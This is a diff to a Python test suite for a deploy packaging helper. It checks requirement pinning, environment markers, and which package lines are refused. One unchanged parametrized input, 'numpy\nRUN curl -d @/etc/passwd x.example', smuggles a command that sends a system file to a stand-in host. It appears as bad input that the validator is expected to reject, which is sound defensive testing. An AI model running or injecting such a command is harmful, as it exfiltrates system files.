@@ -5,6 +5,8 @@ from __future__ import annotations
 from importlib import metadata
 
 import pytest
+from packaging.requirements import Requirement
+from packaging.specifiers import SpecifierSet
 
 from taskapp_kit.deploy.packaging import requirements
 from taskapp_kit.errors import ConfigError
@@ -34,8 +36,8 @@ def test_an_unknown_extra_is_refused_with_the_known_ones() -> None:
 def test_an_authors_package_line_wins_over_ours_and_is_pinned_too() -> None:
     given = ["Pydantic>=2.5,<3", "numpy", "no-such-package-here", "httpx==0.1", "no-such-either>=2"]
     lines = requirements.requirements(extra_packages=given)
-    pinned = f"Pydantic>=2.5,<3,=={metadata.version('pydantic')}"
-    assert [line for line in lines if line.lower().startswith("pydantic>")] == [pinned]
+    (pinned,) = [Requirement(line) for line in lines if line.startswith("Pydantic")]
+    assert pinned.specifier == SpecifierSet(f">=2.5,<3,=={metadata.version('pydantic')}")
     assert "httpx==0.1" in lines and "no-such-either>=2" in lines
     assert not [line for line in lines if line.startswith("pydantic==")]
     assert f"numpy=={metadata.version('numpy')}" in lines
@@ -66,7 +68,7 @@ def test_bounds_in_parentheses_are_pinned_beside_them() -> None:
     (line,) = [
         line for line in requirements.requirements(extra_packages=["orjson (>=3,<9)"]) if line.startswith("orjson")
     ]
-    assert line == f"orjson>=3,<9,=={metadata.version('orjson')}"
+    assert Requirement(line) == Requirement(f"orjson>=3,<9,=={metadata.version('orjson')}")
 
 
 @pytest.mark.parametrize(
@@ -78,6 +80,8 @@ def test_bounds_in_parentheses_are_pinned_beside_them() -> None:
         "https://x.example/a.whl",
         "numpy\nRUN curl -d @/etc/passwd x.example",
         "numpy --index-url=x",
+        "numpy @ ../numpy.whl",
+        "mine @ git+file:///home/me/mine",
         "numpy -r other.txt",
     ],
 )
@@ -93,21 +97,23 @@ def test_metadata_lines_are_sorted_by_extra() -> None:
             'tomli>=2; python_version < "3.11"',
             'crafter>=1.8; extra == "crafter"',
             "numba; (python_version < '3.15') and extra == 'crafter'",
+            "legacy>=1.dev-r5",
             'modal; extra == "modal" and sys_platform != "win32"',
+            'pywin32; extra == "modal" and sys_platform == "win32"',
         ],
         ["crafter", "modal", "empty"],
     )
-    assert base == ["pydantic>=2.7", 'tomli>=2; python_version < "3.11"']
+    assert base == ["pydantic>=2.7", 'tomli>=2; python_version < "3.11"', "legacy>=1.dev-r5"]
     assert optional == {
-        "crafter": ["crafter>=1.8", "numba; (python_version < '3.15')"],
-        "modal": ['modal; sys_platform != "win32"'],
+        "crafter": ["crafter>=1.8", "numba"],
+        "modal": ["modal"],
         "empty": [],
     }
 
 
 def test_the_modules_of_packages_are_followed_through_what_they_need() -> None:
     modules, unknown = requirements.modules_of(
-        ["fastapi==1", "uvicorn[standard]", "Not.Installed-Here>=1", "pyyaml; a == 'b'"]
+        ["fastapi==1", "uvicorn[standard]", "Not.Installed-Here>=1", "pyyaml; python_version < '3'"]
     )
     assert {"fastapi", "starlette", "pydantic_core", "anyio", "uvicorn", "uvloop", "yaml"} <= modules
     assert not {"pytest", "modal", "numpy"} & modules
